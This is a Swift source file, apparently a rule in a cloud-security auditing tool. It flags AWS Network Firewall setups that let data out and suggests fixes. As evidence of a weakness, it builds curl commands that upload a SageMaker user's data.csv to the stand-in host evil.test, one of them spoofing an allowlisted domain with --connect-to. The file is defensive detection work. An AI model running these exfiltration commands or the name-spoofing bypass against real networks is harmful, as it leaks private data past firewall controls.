import CordonModel

/// A firewall that decides by the name a client claims.
struct NetworkFirewallRoute: Route {
  let name = "network-firewall"
  let path = EgressPath.tunnel
  let title = "packets pass the network firewall under another name"
  let documentation = RouteDocumentation(
    """
    AWS Network Firewall's domain lists look at the HTTP host and the TLS server name, which the client writes. A request to \
    any address under an allowed name passes, and so does what is neither HTTP nor TLS unless a rule drops it.
    """,
    closedBy: ["no way to the internet behind the firewall"],
    notClosedBy: ["an allowlist of domains", "a deny list of domains", "managed threat signatures"])

  func judge(_ scene: Scene) -> Judgement {
    let estate = scene.estate
    var judgement = Judgement()
    for firewall in estate.all("AWS::NetworkFirewall::Firewall") {
      judgement.add(door(firewall, estate))
    }
    if judgement.doors.isEmpty {
      judgement.add(.closed("files", HeldControl(absence: "no network firewall to lead packets out")))
    }
    return judgement
  }

  private func door(_ firewall: CloudResource, _ estate: CloudEstate) -> Door {
    let name = "\(firewall.id)"
    let leavesNothing = estate.all(
      "AWS::EC2::InternetGateway", "AWS::EC2::NatGateway", "AWS::EC2::TransitGateway"
    )
    .isEmpty
    if leavesNothing {
      return .closed(name, HeldControl(absence: "no gateway to the internet behind the firewall"))
    }
    for policy in estate.all("AWS::NetworkFirewall::FirewallPolicy") {
      let actions = estate.texts(policy.properties[path: ["FirewallPolicy", "StatelessDefaultActions"]])
      if actions.known.contains("aws:pass") {
        return .open(
          name,
          RouteWitness(
            "curl --data-binary @/home/sagemaker-user/data.csv https://evil.test/",
            by: .insider("\(firewall.id)"),
            story: "The firewall's stateless default passes every packet before a stateful rule looks at it.",
            fix: "set StatelessDefaultActions to aws:forward_to_sfe", at: policy, "FirewallPolicy"))
      }
    }
    for group in estate.all("AWS::NetworkFirewall::RuleGroup") {
      let list = group.properties[path: ["RuleGroup", "RulesSource", "RulesSourceList"]]
      guard let list, estate.text(list["GeneratedRulesType"]).value == "ALLOWLIST" else { continue }
      let target = estate.texts(list["Targets"]).known.first ?? "allowed.test"
      let host = target.drop { $0 == "." }
      return .open(
        name,
        RouteWitness(
          "curl --connect-to \(host):443:evil.test:443 -k --data-binary @/home/sagemaker-user/data.csv https://\(host)/",
          by: .insider("\(firewall.id)"),
          story:
            "The client calls a host of the attacker's and claims to call \(host), which the firewall believes.",
          fix: "take away the route through \(firewall.id)", at: group, "RuleGroup"))
    }
    return .unknown(name, "what the rules of \(firewall.id) let through is not modelled", firewall)
  }
}
